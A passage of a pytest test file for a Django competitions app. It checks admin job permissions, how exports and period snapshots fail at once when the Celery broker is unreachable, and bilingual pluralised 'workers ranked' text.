    page = admin_client.get(reverse("admin:competitions_job_changelist")).content.decode()
    assert "standings_day_xlsx" in page and "staff" in page
    detail = admin_client.get(reverse("admin:competitions_job_change", args=[staff_job.pk]))
    assert detail.status_code == 200 and 'name="kind"' not in detail.content.decode()
    assert admin_client.post(reverse("admin:competitions_job_delete", args=[staff_job.pk]),
                             {"post": "yes"}).status_code == 403
    assert Job.objects.filter(pk=staff_job.pk).exists()


@pytest.fixture
def broker_away(settings):
    """The Celery app sends to a Redis port nothing listens on (the broker is away), for this test only."""
    from config.celery_app import app
    from tests.redis_server import free_port

    saved = {key: app.conf[key] for key in ("broker_url", "task_always_eager", "broker_transport_options")}
    app.conf.update(broker_url=f"redis://127.0.0.1:{free_port()}/0", task_always_eager=False,
                    broker_transport_options={"max_retries": 0})
    _fresh_pools(app)
    yield
    app.conf.update(saved)
    _fresh_pools(app)


def _fresh_pools(app):
    """The app's connection and producer pools are made anew for its broker_url. Closing them is not
    enough: kombu keeps a closed pool registered for its connection, and a later test sending to the real
    broker would get it back ("Acquire on closed pool")."""
    import kombu.pools

    app.pool.force_close_all()
    kombu.pools.reset()
    app._pool = None
    app.amqp._producer_pool = None


def test_with_the_broker_away_an_export_and_a_period_fail_at_once_with_a_message(
        staff, w, ranked, broker_away, django_capture_on_commit_callbacks):
    # the pages answer, and what they started says it could not start, instead of "queued" for ever
    day = Standing.objects.filter(competition=w.comp).latest("day").day
    with django_capture_on_commit_callbacks(execute=True):
        job = jobs.job_start(kind="standings_day_xlsx", params={"competition": w.comp.pk, "day": day.isoformat()},
                             user=w.staff)
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and "任务队列暂时不可用" in job.error
    from competitions.models import PeriodSnapshot, SnapshotStatus
    from competitions.standings import periods

    with django_capture_on_commit_callbacks(execute=True):
        snapshot = periods.request_period_snapshot(competition_id=w.comp.pk, start=day - timedelta(days=6), end=day,
                                                   user=w.staff)
    snapshot = PeriodSnapshot.objects.get(pk=snapshot.pk)
    assert snapshot.status == SnapshotStatus.FAILED and "任务队列暂时不可用" in snapshot.error


def test_the_days_facts_count_the_workers_ranked_in_the_form_for_the_count(staff, w, ranked):
    day = StandingDay.objects.filter(competition=w.comp).latest("day")
    staff.cookies["django_language"] = "en"
    for rows, words in ((1, "1 worker ranked"), (2, "2 workers ranked")):
        StandingDay.objects.filter(pk=day.pk).update(rows=rows)
        facts = text(staff.get(reverse("workspace:day"))).split('id="day-facts">')[1].split("</p>")[0]
        assert words in facts
    staff.cookies["django_language"] = "zh-hans"
    assert "共 2 人上榜" in text(staff.get(reverse("workspace:day")))
